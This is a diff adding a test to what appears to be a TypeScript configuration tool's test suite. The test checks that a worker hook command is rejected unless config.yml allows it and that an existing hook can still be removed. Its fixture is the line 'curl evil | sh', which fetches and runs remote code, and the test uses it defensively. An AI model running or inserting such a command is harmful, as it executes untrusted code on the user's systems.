@@ -126,6 +126,25 @@ test('of two who change at the same time both count, one after the other', async
   expect(race.map(({ status }) => status).sort()).toEqual(['fulfilled', 'rejected']);
 });
 
+test('a command for the worker is not set where config.yml does not allow it, and taken away all the same', async () => {
+  const hooks = { assemble: { program: 'curl evil | sh' } };
+  const wrong = change(stating({ groups: { web: { ...web.groups!.web, hooks } }, hosts: web.hosts! }));
+  await expect(wrong).rejects.toMatchObject({ code: 'FLEET_INVALID', details: { count: 4 } });
+  await expect(wrong).rejects.toThrow(
+    /groups\.web\.apps\.one\.hooks\.assemble\.program: is a command that runs on the worker/,
+  );
+  await opened().db.execute(`UPDATE ${table} SET local_pro_cmd = 'true' WHERE app_key = 'flow1'`);
+  await change((standing) => standing);
+  const { changes } = await change((standing) => {
+    const flow = standing.apps.get('flow1')!;
+    return {
+      ...standing,
+      apps: new Map([...standing.apps, ['flow1', { ...flow, settings: { ...flow.settings, hooks: {} } }]]),
+    };
+  });
+  expect(changes).toMatchObject([{ name: 'flow1', values: [{ key: 'hooks.assemble.program', after: null }] }]);
+});
+
 test('a table that may only be read is not changed, and the answer says what to grant', async () => {
   const { db } = opened();
   const [{ name }] = (await db.query<{ name: string }>('SELECT DATABASE() AS name')) as [{ name: string }];
